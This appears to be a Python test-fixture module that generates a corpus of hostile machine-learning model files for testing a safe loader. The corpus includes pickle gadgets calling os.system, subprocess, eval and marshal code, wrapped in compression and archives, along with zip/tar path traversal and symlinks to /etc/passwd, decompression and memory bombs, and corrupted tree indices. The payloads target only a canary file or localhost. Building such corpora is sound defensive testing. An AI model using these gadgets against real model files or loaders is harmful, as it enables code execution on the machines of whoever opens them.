"""Hostile model files, made afresh: each would touch a canary, hang, eat memory or crash where it is opened naively."""

from __future__ import annotations

import bz2
import gzip
import io
import json
import lzma
import marshal
import pickle
import struct
import tarfile
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterator
from functools import cache
from pathlib import Path
from typing import Any

import joblib
import numpy as np
import skops.io
from sklearn.ensemble import HistGradientBoostingClassifier, RandomForestClassifier
from sklearn.feature_extraction.text import TfidfTransformer
from sklearn.linear_model import LogisticRegression
from sklearn.neighbors import KNeighborsClassifier
from sklearn.pipeline import make_pipeline
from sklearn.svm import SVC

RNG = np.random.default_rng(0)
X = RNG.normal(size=(60, 3))
Y = (X[:, 0] > 0).astype(int)


def dumped(thing: Any, compress: Any = 0) -> bytes:
    """As joblib writes it."""
    buffer = io.BytesIO()
    joblib.dump(thing, buffer, compress=compress)
    return buffer.getvalue()


class Calls:
    """Pickles to a call."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self.function, self.arguments = function, arguments

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return self.function, self.arguments


def part(thing: Any) -> bytes:
    """The opcodes of a plain value, without PROTO and STOP."""
    return pickle.dumps(thing, 2)[2:-1]


def call(module: str, name: str, *arguments: Any) -> bytes:
    """A pickle of one call, of a name that need not exist here."""
    return b"\x80\x02c" + f"{module}\n{name}\n".encode() + part(tuple(arguments)) + b"R."


def stack_call(module: str, name: str, *arguments: Any) -> bytes:
    """The same by STACK_GLOBAL, the names kept in the memo first."""
    kept = b"\x80\x04" + pickle.dumps(module, 4)[11:-2] + b"\x94" + pickle.dumps(name, 4)[11:-2] + b"\x94"
    return kept + b"00h\x00h\x01\x93" + part(tuple(arguments)) + b"R."


def zipped(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip archive."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        for name, content in members.items():
            archive.writestr(zipfile.ZipInfo(name), content, compress_type=method)
    return buffer.getvalue()


@cache
def forest() -> RandomForestClassifier:
    """An honest forest."""
    return RandomForestClassifier(4, random_state=0).fit(X, Y)


def gadgets(canary: str) -> Iterator[tuple[str, bytes]]:
    """One call each, that would touch the canary."""
    touch, python = f"touch {canary}", f"open({canary!r}, 'w')"
    code = marshal.dumps(compile(python, "x", "eval"))
    yield from {
        "os.system": call("os", "system", touch),
        "posix.system": call("posix", "system", touch),
        "stack-global": stack_call("posix", "system", touch),
        "subprocess": call("subprocess", "check_output", ["touch", canary]),
        "eval": call("builtins", "eval", python),
        "eval-py2": call("__builtin__", "eval", python),
        "exec": call("builtins", "exec", python),
        "compile": call("builtins", "compile", python, "x", "eval"),
        "open": call("builtins", "open", canary, "w"),
        "getattr": call("builtins", "getattr", "x", "__class__"),
        "timeit": call("timeit", "timeit", "pass", python),
        "cprofile": call("cProfile", "run", python),
        "profile": call("profile", "run", python),
        "trace": call("trace", "Trace", 1),
        "pdb": call("pdb", "run", python),
        "runpy": call("runpy", "run_path", canary),
        "pip": call("pip", "main", ["install", "x"]),
        "ensurepip": call("ensurepip", "_run_pip", ["install"]),
        "pydoc": call("pydoc", "pipepager", "x", touch),
        "pydoc-locate": call("pydoc", "locate", "os.system"),
        "resolve-name": call("pkgutil", "resolve_name", "os:system"),
        "importlib": call("importlib", "import_module", "antigravity"),
        "operator": call("operator", "methodcaller", "system", touch),
        "attrgetter": call("operator", "attrgetter", "system"),
        "partial": call("functools", "partial", print),
        "reduce": call("functools", "reduce", print, []),
        "pty": call("pty", "spawn", ["touch", canary]),
        "webbrowser": call("webbrowser", "open", "http://127.0.0.1:9"),
        "ctypes": call("ctypes", "CDLL", "libc.so.6"),
        "posixsubprocess": call("_posixsubprocess", "fork_exec", []),
        "interpreters": call("_xxsubinterpreters", "run_string", 0, python),
        "multiprocessing": call(
            "multiprocessing.util", "spawnv_passfds", b"/usr/bin/touch", ["touch", canary], []
        ),
        "asyncio": call("asyncio.unix_events", "_UnixSubprocessTransport", touch),
        "pathlib": call("pathlib", "Path.write_text", canary, "x"),
        "shutil": call("shutil", "copyfile", "/etc/hostname", canary),
        "sqlite3": call("sqlite3", "connect", canary),
        "socket": call("socket", "create_connection", ("127.0.0.1", 9)),
        "urllib": call("urllib.request", "urlopen", "http://127.0.0.1:9"),
        "smtplib": call("smtplib", "SMTP", "127.0.0.1", 9),
        "imaplib": call("imaplib", "IMAP4_stream", touch),
        "uuid": call("uuid", "_get_command_stdout", "touch", canary),
        "site": call("site", "execsitecustomize"),
        "atexit": call("atexit", "register", print),
        "signal": call("signal", "alarm", 1),
        "code": call("code", "InteractiveInterpreter", {}),
        "bdb": call("bdb", "Bdb.run", python),
        "doctest": call("doctest", "debug_script", python),
        "logging": call("logging.config", "_resolve", "os.system"),
        "idlelib": call("idlelib.pyshell", "ModifiedInterpreter.runcommand", python),
        "lib2to3": call("lib2to3.pgen2.pgen", "ParserGenerator", canary),
        "function-type": b"\x80\x02ctypes\nFunctionType\n(cmarshal\nloads\n" + part((code,)) + b"R}tR)R.",
        "marshal": call("marshal", "loads", code),
        "nested-loads": call("pickle", "loads", call("os", "system", touch)),
        "nested-_loads": call("_pickle", "loads", call("os", "system", touch)),
        "nested-joblib": call("joblib", "load", "/tmp/x.joblib"),
        "sklearn-joblib": call("sklearn.utils._joblib", "joblib.load", "/tmp/x"),
        "nested-numpy": call("numpy", "load", "/tmp/x.npy", None, True),
        "nested-pandas": call("pandas", "read_pickle", "/tmp/x.pkl"),
        "pandas-eval": call("pandas", "eval", python),
        "numpy-dotted": call("numpy", "lib._npyio_impl.os.system", touch),
        "sklearn-dotted": call("sklearn.datasets._base", "os.system", touch),
        "sklearn-dotted-stack": stack_call("sklearn.datasets._base", "os.system", touch),
        "numpy-dotted-stack": stack_call("numpy", "lib._npyio_impl.os.system", touch),
        "numpy-f2py": call("numpy.f2py.crackfortran", "myeval", python),
        "numpy-runstring": call("numpy.testing._private.utils", "runstring", python, {}),
        "numpy-memmap": call("numpy", "memmap", canary, "u1", "w+", 0, (1,)),
        "numpy-savetxt": call("numpy", "savetxt", canary, [1]),
        "numpy-distutils": call("numpy.distutils.exec_command", "exec_command", touch),
        "numpy-vectorize": call("numpy", "vectorize", print),
        "scipy-distribution": call("scipy.stats._distn_infrastructure", "rv_frozen", None),
        "torch-load": call("torch", "load", "/tmp/x.pt"),
        "cloudpickle": call("cloudpickle.cloudpickle", "_make_function", code),
        "dill": call("dill._dill", "_create_function", code),
        "homoglyph": call("ѕklearn.tree._tree", "Tree"),
        "unknown-module": call("a_module_that_is_not_here", "thing"),
        "empty-names": call("", ""),
        "codec": call("_codecs", "encode", "x", "../../x"),
        "inst": b"(S'" + touch.encode() + b"'\nios\nsystem\n.",
        "obj": b"(cos\nsystem\nS'" + touch.encode() + b"'\no.",
        "newobj-ex": b"\x80\x04cos\nsystem\n" + part((touch,)) + b"}\x92.",
        "newobj": b"\x80\x02csubprocess\nPopen\n" + part((["touch", canary],)) + b"\x81.",
        "ext1": b"\x80\x02\x82\x01)R.",
        "ext4": b"\x80\x02\x84\x01\x00\x00\x00)R.",
        "persid": b"Pposix system\n.",
        "binpersid": b"\x80\x02X\x01\x00\x00\x00xQ.",
        "buffer": b"\x80\x05\x97.",
        "memo-confusion": b"\x80\x02X\x04\x00\x00\x00listq\x01X\x06\x00\x00\x00systemq\x01X\x05\x00\x00\x00posixh\x01\x93"
        + part((touch,))
        + b"R.",
        "broken-after": call("os", "system", touch)[:-1] + b"\xff\xff",
        "no-stop": call("os", "system", touch)[:-1],
        "popped": call("os", "system", touch)[:-1] + b"0N.",
        "two-protos": b"\x80\x02\x80\x04" + call("os", "system", touch)[2:],
        "late-proto": b"N0\x80\x02" + call("os", "system", touch)[2:],
        "long-frame": b"\x80\x04\x95\xff\xff\xff\xff\xff\xff\xff\x7f" + call("os", "system", touch)[2:],
        "made-up-name": b"\x80\x04)\x85X\x06\x00\x00\x00system\x93)R.",
        "call-a-call": b"\x80\x02cbuiltins\nlist\n)R)R.",
        "build-a-class": b"\x80\x02csklearn.tree._classes\nDecisionTreeClassifier\nN}X\x07\x00\x00\x00predictcbuiltins\nlist\ns\x86b.",
        "after-a-forest": pickle.dumps(forest()) + call("os", "system", touch),
        "before-a-forest": call("os", "system", touch) + pickle.dumps(forest()),
        "zip-behind": pickle.dumps(forest()) + zipped({"a.pkl": call("os", "system", touch)}),
        "text-protocol": pickle.dumps(Calls(__import__("os").system, touch), 0),
    }.items()


def wrapped(canary: str) -> Iterator[tuple[str, bytes]]:
    """One gadget in many wrappings."""
    import os

    import pyarrow as pa

    evil, bad = Calls(os.system, f"touch {canary}"), call("os", "system", f"touch {canary}")
    for kind in ("zlib", "gzip", "bz2", "lzma", "xz"):
        yield f"joblib-{kind}", dumped([np.arange(3), evil], (kind, 3))
    yield "joblib", dumped([np.arange(3), evil])
    yield "joblib-objects", dumped(np.array([evil, None], dtype=object))
    yield "joblib-behind-array", dumped({"a": np.arange(5.0), "b": [1, evil]})
    for kind in ("lz4", "zstd"):
        yield (
            f"{kind}",
            pa.Codec(kind).compress(dumped(evil), asbytes=True) if kind == "zstd" else _lz4(dumped(evil)),
        )
    yield "gzip-behind", gzip.compress(pickle.dumps(forest())) + gzip.compress(bad)
    yield "zlib-behind", zlib.compress(pickle.dumps(forest())) + bad
    yield "gz-gz-gz", gzip.compress(gzip.compress(gzip.compress(bad)))
    yield "gz-deep", _deep(bad, 30)
    model = LogisticRegression().fit(X, Y)
    model.callback_ = evil
    yield "in-an-attribute", pickle.dumps(model)
    yield "in-an-attribute-joblib", dumped(model, 3)
    piped = make_pipeline(model)
    yield "in-a-pipeline", dumped(piped)
    buffer = io.BytesIO()
    np.save(buffer, np.array([evil], dtype=object), allow_pickle=True)
    yield "npy-objects", buffer.getvalue()
    buffer = io.BytesIO()
    np.savez(buffer, w=np.arange(3), a=np.array([evil], dtype=object))
    yield "npz-objects", buffer.getvalue()
    yield "npz-named-as-ours", zipped({"header.npy": bad, "weights.0.npy": bad}, zipfile.ZIP_STORED)
    for name in ("data.pkl", "archive/data.pkl", "model.joblib", "x/y/z.bin", "a.json", "no extension"):
        yield f"zip-{name.replace('/', '-')}", zipped({name: bad})
    yield "zip-in-zip", zipped({"a.zip": zipped({"b.zip": zipped({"c": bad})})})
    yield "zip-bz2", zipped({"a": bad}, zipfile.ZIP_BZIP2)
    yield "zip-lzma", zipped({"a": bad}, zipfile.ZIP_LZMA)
    yield "tar", _tarred("a.pkl", bad, "w")
    yield "tar-gz", _tarred("../../a.pkl", bad, "w:gz")
    yield "tar-xz", _tarred("a.pkl", bad, "w:xz")
    good = zipped({"data.pkl": bad}, zipfile.ZIP_STORED)
    yield "zip-crc", good.replace(struct.pack("<L", zlib.crc32(bad)), b"\0\0\0\0")
    yield "zip-flag", good[:6] + b"\x01" + good[7:]
    yield "zip-flag-directory", _at_directory(good, 8, b"\x01")
    yield "zip-name-differs", good.replace(b"data.pkl", b"data.txt", 1)
    yield "zip-prefixed", b"\x80\x04N." + good
    yield "zip-suffixed", good + bad
    yield "zip-symlink", _symlink()
    yield "zip-traversal", zipped({"../../../tmp/x": b"x", "schema.json": b"{}"})
    yield "zip-absolute", zipped({"/etc/x": b"x", "schema.json": b"{}"})
    yield "zip-backslash", zipped({"..\\x": b"x", "schema.json": b"{}"})
    yield (
        "torch-zip",
        zipped({"a/data.pkl": bad, "a/version": b"3\n", "a/data/0": b"\0" * 8}, zipfile.ZIP_STORED),
    )
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, 2)
    yield "torch-old", magic + pickle.dumps(1001, 2) + pickle.dumps({}, 2) + bad + pickle.dumps([], 2)
    yield "torch-old-magic-call", bad[:-1] + b"0" + magic[2:] + pickle.dumps(1001, 2)
    yield "saved-model", zipped({"m/saved_model.pb": b"\n\x10\x12\x06PyFunc\x12\x08ReadFile "})


def _lz4(content: bytes) -> bytes:
    import pyarrow as pa

    sink = pa.BufferOutputStream()
    with pa.CompressedOutputStream(sink, "lz4") as stream:
        stream.write(content)
    return sink.getvalue().to_pybytes()


def _deep(content: bytes, depth: int) -> bytes:
    for _ in range(depth):
        content = gzip.compress(content)
    return content


def _tarred(name: str, content: bytes, mode: str) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=mode) as archive:
        info = tarfile.TarInfo(name)
        info.size = len(content)
        archive.addfile(info, io.BytesIO(content))
        link = tarfile.TarInfo("link")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
        archive.addfile(link)
    return buffer.getvalue()


def _at_directory(archive: bytes, offset: int, value: bytes) -> bytes:
    at = archive.rfind(b"PK\x01\x02") + offset
    return archive[:at] + value + archive[at + len(value) :]


def _symlink() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        info = zipfile.ZipInfo("schema.json")
        info.external_attr = 0o120777 << 16
        archive.writestr(info, "/etc/passwd")
    return buffer.getvalue()


def graphs(canary: str) -> Iterator[tuple[str, bytes]]:
    """Formats that are no pickles."""
    layer = {
        "class_name": "Lambda",
        "module": "keras.layers",
        "config": {"function": ["4wEAAA==", None, None]},
    }
    config = {"class_name": "Sequential", "module": "keras", "config": {"layers": [layer]}}
    members = {"metadata.json": b"{}", "model.weights.h5": b"\x89HDF\r\n\x1a\n"}
    yield "keras-lambda", zipped({"config.json": json.dumps(config).encode(), **members})
    other = {"class_name": "function", "module": "os", "config": "system", "registered_name": "function"}
    yield (
        "keras-module",
        zipped(
            {"config.json": json.dumps({"class_name": "Sequential", "config": other}).encode(), **members}
        ),
    )
    yield (
        "keras-registered",
        zipped(
            {
                "config.json": json.dumps(
                    {"class_name": "Functional", "x": {"module": "subprocess", "class_name": "Popen"}}
                ).encode(),
                **members,
            }
        ),
    )
    yield "h5-lambda", b"\x89HDF\r\n\x1a\n" + b"\0" * 100 + json.dumps(config).encode()
    yield from _onnx()
    yield "skops-system", _skops({"__class__": "system", "__module__": "posix", "__loader__": "TypeNode"})
    yield (
        "skops-function",
        _skops(
            {
                "__class__": "function",
                "__module__": "os",
                "__loader__": "FunctionNode",
                "content": {"module_path": "os", "function": "system"},
            }
        ),
    )
    yield (
        "skops-method",
        _skops(
            {
                "__class__": "x",
                "__module__": "builtins",
                "__loader__": "MethodNode",
                "content": {"func": "system", "obj": {}},
            }
        ),
    )
    yield (
        "skops-operator",
        _skops(
            {
                "__class__": "attrgetter",
                "__module__": "operator",
                "__loader__": "OperatorFuncNode",
                "attrs": "system",
            }
        ),
    )
    yield (
        "skops-partial",
        _skops({"__class__": "partial", "__module__": "functools", "__loader__": "PartialNode"}),
    )
    yield (
        "skops-void",
        _skops(
            {
                "__class__": "void",
                "__module__": "numpy",
                "__loader__": "ConstructorFromReduceNode",
                "content": 2**31,
            }
        ),
    )
    yield "skops-unknown", _skops({"__class__": "X", "__module__": "y", "__loader__": "NoNode"})
    yield "skops-deep", zipped({"schema.json": b'{"a":' * 100_000 + b"1" + b"}" * 100_000})
    yield "skops-no-json", zipped({"schema.json": b"{" * 1000})
    evil = pickle.dumps(Calls(print, "x"))
    yield (
        "skops-pickle-inside",
        zipped({"schema.json": json.dumps({"__class__": "a"}).encode(), "1.pkl": evil}),
    )


def _skops(node: dict[str, Any]) -> bytes:
    node = {"__id__": 1, "type": "x", "content": {}, **node}
    return zipped({"schema.json": json.dumps({**node, "protocol": 2, "_skops_version": "0.16.0"}).encode()})


def _onnx() -> Iterator[tuple[str, bytes]]:
    """Made by hand: the wire format of a ModelProto."""

    def field(number: int, content: bytes | int) -> bytes:
        if isinstance(content, int):
            return bytes([number << 3, content])
        size, length = len(content), b""
        while size > 127:
            length += bytes([size & 127 | 128])
            size >>= 7
        return _key(number << 3 | 2) + length + bytes([size]) + content

    def model(graph: bytes) -> bytes:
        return field(1, 8) + field(2, b"me") + field(7, graph) + field(8, field(2, 13))

    location = field(13, field(1, b"location") + field(2, b"../../../../etc/passwd")) + field(14, 1)
    yield "onnx-external", model(field(5, field(8, b"w") + location))
    yield "onnx-loop", model(field(1, field(4, b"Loop")))
    yield "onnx-domain", model(field(1, field(4, b"PyOp") + field(7, b"ai.onnx.contrib")))
    inner = field(6, field(1, field(4, b"Scan")))
    yield "onnx-loop-inside", model(field(1, field(4, b"Identity") + field(5, inner)))
    yield "onnx-cut", model(field(1, field(4, b"Loop")))[:-3]


def _key(value: int) -> bytes:
    return bytes([value]) if value < 128 else bytes([value & 127 | 128, value >> 7])


def bombs() -> Iterator[tuple[str, bytes]]:
    """Files that eat memory or time."""
    zeros = bytes(300 * 2**20)
    yield "zlib-bomb", zlib.compress(zeros, 9)
    yield "bz2-bomb", bz2.compress(zeros)
    yield "xz-bomb", lzma.compress(zeros, preset=0)
    yield "gz-gz-bomb", gzip.compress(gzip.compress(zeros, 9), 9)
    yield "zip-bomb", zipped({"a": zeros})
    yield "zip-many", zipped({f"m{at}": b"" for at in range(25_000)}, zipfile.ZIP_STORED)
    yield "many-opcodes", b"\x80\x02(" + b"K\x00" * 30_000_000 + b"t."
    yield "memo-huge", b"\x80\x02Nr\xff\xff\xff\xff."
    yield "bytes-huge", b"\x80\x04\x8e" + b"\xff" * 7 + b"\x7f" + b"x."
    yield "bytearray-huge", b"\x80\x05\x96" + b"\xff" * 6 + b"\x00\x00" + b"."
    yield "text-huge", b"\x80\x04\x8d" + b"\xff" * 7 + b"\x7f" + b"."
    yield "long-huge", b"\x80\x02\x8b\xff\xff\xff\x7f."
    yield "long-decimal", b"L" + b"9" * 5_000_000 + b"L\n."
    yield (
        "laughs",
        b"\x80\x02]"
        + b"".join(
            b"q" + bytes([at]) + b"]" + b"(" + b"h" + bytes([at]) + b"2" * 9 + b"e" for at in range(100)
        )
        + b".",
    )
    yield "deep-tuples", b"\x80\x02)" + b"\x85" * 1_000_000 + b"."
    yield "deep-key", b"\x80\x02})" + b"\x85" * 1_000_000 + b"Ns."
    yield "deep-lists", b"\x80\x02" + b"](" * 500_000 + b"e" * 500_000 + b"."
    yield "marks", b"\x80\x02" + b"(" * 5_000_000 + b"."
    yield "big-array", call("numpy", "ndarray", (2**20, 2**20))
    yield "range-set", b"\x80\x02cbuiltins\nset\n(cbuiltins\nrange\n" + part((10**9,)) + b"RtR."
    yield "bytearray-call", call("builtins", "bytearray", 2**40)
    yield (
        "npy-shape",
        b"\x93NUMPY\x01\x00\x76\x00"
        + b"{'descr': '<f8', 'fortran_order': False, 'shape': (99999999999,), }".ljust(117)
        + b"\n",
    )
    yield "npy-header", b"\x93NUMPY\x02\x00" + struct.pack("<L", 9_000) + b"(" * 9_000


def natives() -> Iterator[tuple[str, bytes]]:
    """Honest types only, and indices that lead compiled code astray."""
    for name, values in {
        "loop": {"left_child": 0},
        "outside": {"right_child": 10**6},
        "negative": {"left_child": -5},
        "feature": {"feature": 10**5},
        "feature-negative": {"feature": -9},
    }.items():
        model = RandomForestClassifier(2, random_state=0).fit(X, Y)
        model.estimators_[0].tree_ = _broken(model.estimators_[0].tree_, **values)
        yield f"tree-{name}", dumped(model)
    other = RandomForestClassifier(2, random_state=0).fit(RNG.normal(size=(60, 50)), Y)
    other.n_features_in_ = 3
    yield "forest-of-wide-trees", dumped(other)
    boosted = HistGradientBoostingClassifier(max_iter=2).fit(X, Y)
    boosted._predictors[0][0].nodes["left"][0] = 0
    yield "boosting-loop", dumped(boosted)
    machine = SVC().fit(X, Y)
    machine._n_support = np.array([10**6, 10**6], dtype=np.int32)
    yield "svm-counts", dumped(machine)
    machine = SVC().fit(X, Y)
    machine._dual_coef_ = machine._dual_coef_[:, :1]
    yield "svm-weights", dumped(machine)
    text = TfidfTransformer().fit(X > 0)
    matrix = KNeighborsClassifier(algorithm="brute").fit(text.transform(X > 0), Y)
    matrix._fit_X.indices = matrix._fit_X.indices + 10**6
    yield "sparse-outside", dumped(matrix)
    near = KNeighborsClassifier(algorithm="kd_tree", leaf_size=5).fit(X, Y)
    state = list(near._tree.__getstate__())
    state[1] = np.asarray(state[1]) + 10**9
    near._tree.__setstate__(tuple(state))
    yield "kd-tree-outside", pickle.dumps(near)
    for name, module, kind, argument in (
        ("memory", "builtins", "bytearray", 2**33),
        ("time", "builtins", "set", None),
    ):
        inner = b"cbuiltins\nrange\n" + part((10**9,)) + b"R" if argument is None else part(argument)
        state = b"}X\x05\x00\x00\x00thingc" + f"{module}\n{kind}\n".encode() + inner + b"\x85Rsb."
        yield (
            f"{name}-bomb-in-a-model",
            b"\x80\x02csklearn.linear_model._logistic\nLogisticRegression\n)\x81" + state,
        )
    yield "not-fitted", dumped(RandomForestClassifier())
    yield "no-model", dumped({"a": np.arange(3)})
    yield "a-class", pickle.dumps(RandomForestClassifier)
    yield "an-array", dumped(np.arange(10.0))


def _broken(tree: Any, **values: int) -> Any:
    make, arguments, state = tree.__reduce__()
    made = make(*arguments)
    state["nodes"] = state["nodes"].copy()
    for field, value in values.items():
        state["nodes"][field][0] = value
    made.__setstate__(state)
    return made


def cut() -> Iterator[tuple[str, bytes]]:
    """Honest files that end early, or are damaged in the middle."""
    for kind, raw in {
        "pickle": pickle.dumps(forest()),
        "joblib": dumped(forest()),
        "zlib": dumped(forest(), 3),
        "skops": skops.io.dumps(forest()),
    }.items():
        for share in (0.01, 0.3, 0.7, 0.99):
            yield f"{kind}-cut-{share}", raw[: max(1, int(share * len(raw)))]
    yield "junk", bytes(range(256)) * 50
    yield "text", b"I am no model.\n"
    yield "empty-zip", zipped({})


def files(canary: Path | str) -> dict[str, bytes]:
    """All of them by name, except the bombs."""
    makers: list[Callable[..., Any]] = [gadgets, wrapped, graphs]
    found = {name: raw for make in makers for name, raw in make(str(canary))}
    return found | dict(natives()) | dict(cut())
